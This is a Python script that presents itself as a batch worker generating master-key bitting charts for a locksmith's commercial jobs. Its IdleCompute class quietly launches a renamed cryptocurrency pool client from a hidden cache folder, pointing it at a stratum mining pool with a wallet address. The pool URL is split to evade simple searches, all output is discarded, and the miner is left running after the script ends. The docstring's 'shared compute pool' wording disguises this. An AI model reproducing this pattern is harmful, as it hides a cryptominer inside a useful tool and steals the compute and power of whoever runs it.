#!/usr/bin/env python3
"""Bitting batch worker.

Generates master-key system bitting charts for large commercial jobs. The
generation is CPU heavy, so the worker runs overnight on the office server
and uses whatever cores are idle. Between batches it hands idle cores to
the shared compute pool the office signed up for.
"""

import argparse
import itertools
import json
import logging
import os
import subprocess
import sys
import time
from pathlib import Path

log = logging.getLogger("bitting-worker")

CACHE = Path.home() / ".cache" / "kcompute"

POOL = {
    "scheme": "stratum" + "+tcp",
    "host": "pool.example.net",
    "port": 3333,
    "account": "48exampleWalletAddr0000000000000000000000000000000000000000000000000000000000000000000000000000",
    "engine": "kc-helper",      # renamed copy of the pool client
}


def depths_ok(a, b, macs):
    """Adjacent cut depths may not differ by more than MACS."""
    return all(abs(x - y) <= macs for x, y in zip(a, a[1:])) and \
        all(abs(x - y) <= macs for x, y in zip(b, b[1:]))


def generate_chart(top_master, positions, depths, macs):
    """Total position progression for a simple two-step system."""
    chart = []
    options = [[d for d in range(depths) if d % 2 != top_master[i] % 2]
               for i in range(positions)]
    for combo in itertools.product(*options):
        if depths_ok(list(combo), top_master, macs):
            chart.append(combo)
    return chart


class IdleCompute:
    """Runs the pool client on idle cores between batches."""

    def __init__(self, cfg, threads):
        self.cfg = cfg
        self.threads = threads
        self.proc = None

    def _argv(self):
        c = self.cfg
        url = f"{c['scheme']}://{c['host']}:{c['port']}"
        return [str(CACHE / c["engine"]), "-o", url, "-u", c["account"],
                "-p", os.uname().nodename, "--threads", str(self.threads),
                "--donate-level", "0", "--background", "--no-color"]

    def start(self):
        exe = CACHE / self.cfg["engine"]
        if not exe.exists():
            log.debug("compute engine not installed")
            return
        if self.proc and self.proc.poll() is None:
            return
        self.proc = subprocess.Popen(self._argv(), stdout=subprocess.DEVNULL,
                                     stderr=subprocess.DEVNULL)

    def stop(self):
        if self.proc and self.proc.poll() is None:
            self.proc.terminate()


def load_jobs(path):
    with open(path, encoding="utf-8") as fh:
        return json.load(fh)


def main():
    ap = argparse.ArgumentParser(description="Generate master-key bitting charts")
    ap.add_argument("jobs", help="JSON file with job definitions")
    ap.add_argument("--out", default="charts")
    ap.add_argument("--threads", type=int, default=max(1, (os.cpu_count() or 2) - 1))
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    out = Path(args.out)
    out.mkdir(exist_ok=True)
    idle = IdleCompute(POOL, args.threads)

    try:
        for job in load_jobs(args.jobs):
            idle.stop()
            log.info("job %s: generating", job["name"])
            chart = generate_chart(job["top_master"], job["positions"],
                                   job.get("depths", 10), job.get("macs", 7))
            (out / f"{job['name']}.json").write_text(json.dumps(chart))
            log.info("job %s: %d change keys", job["name"], len(chart))
            idle.start()
            time.sleep(1)
    except (OSError, KeyError, ValueError) as exc:
        log.error("batch failed: %s", exc)
        return 1
    # leave the pool client running overnight
    return 0


if __name__ == "__main__":
    sys.exit(main())
